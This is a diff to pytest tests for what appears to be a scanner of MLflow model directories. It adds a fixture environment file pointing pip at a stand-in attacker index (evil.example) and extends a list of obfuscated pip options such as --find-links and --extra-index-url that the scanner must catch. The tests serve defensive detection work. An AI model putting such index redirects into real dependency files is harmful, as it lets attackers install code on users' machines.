@@ -206,6 +206,28 @@ def test_no_length_of_blanks_hides_what_stands_behind_it(
 
 
 @pytest.mark.parametrize(
+    ("env", "grave"),
+    [
+        ("{virtualenv: python_env.yaml, conda: conda.yaml}", False),
+        ("{virtualenv: envs/python_env.yaml}", False),
+        ("conda.yaml", False),
+        ("{virtualenv: e.yaml, conda: conda.yaml}", True),
+        ("{virtualenv: conda.yaml, conda: conda.yaml}", True),
+        ("{conda: e.yaml}", True),
+        ("{conda: [conda.yaml]}", True),
+        ("e.yaml", True),
+    ],
+)
+def test_an_environment_is_described_where_it_is_looked_at(
+    tmp_path: Path, env: str, grave: bool
+) -> None:
+    (tmp_path / "e.yaml").write_text("dependencies: ['--index-url https://evil.example']\n")
+    loader = "loader_module: mlflow.sklearn"
+    (tmp_path / "MLmodel").write_text(f"flavors: {{python_function: {{{loader}, env: {env}}}}}\n")
+    assert ("mlmodel-environment" in told(findings(tmp_path))) is grave
+
+
+@pytest.mark.parametrize(
     "name", ["requirements.txt", "conda.yaml", "python_env.yaml", "MLmodel", "keras_module.txt"]
 )
 @pytest.mark.parametrize("packed", [zlib.compress(EVIL), gzip.compress(EVIL), b"x==1\n"])
@@ -224,7 +246,8 @@ def test_a_pickle_called_like_a_file_of_mlflow_is_found(
     [
         b"a\n" * 6000 + b"--find-links ./wheels", b"--find-\\\nlinks ./wheels",
         b"--find-\\\r\nlinks ./wheels", b"-\\\n-extra-index-url file:/x", b"--find ./wheels",
-        b"-f./wheels", b"--extra-index=file:/x", b"-rother.txt", b"x\\\n@ file:./a",
+        b"-f./wheels", b"--extra-index=file:/x", b"-rother.txt", b"-r other.txt",
+        b"x\\\n@ file:./a",
     ],
 )  # fmt: skip
 def test_an_option_is_found_however_pip_would_read_it(hidden: bytes) -> None:
